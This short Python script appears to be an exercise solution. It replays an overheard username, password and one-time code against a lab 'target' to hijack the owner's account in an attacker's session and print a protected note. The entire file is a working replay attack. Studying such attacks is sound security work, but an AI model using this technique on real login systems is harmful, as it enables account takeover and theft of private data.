"""The owner's code again, in a session of the thief's."""

from target import http, overheard

name, password, code = overheard()
http.post("/password", data={"name": name, "password": password})
http.post("/code", data={"code": code})
print(http.get("/note").text)
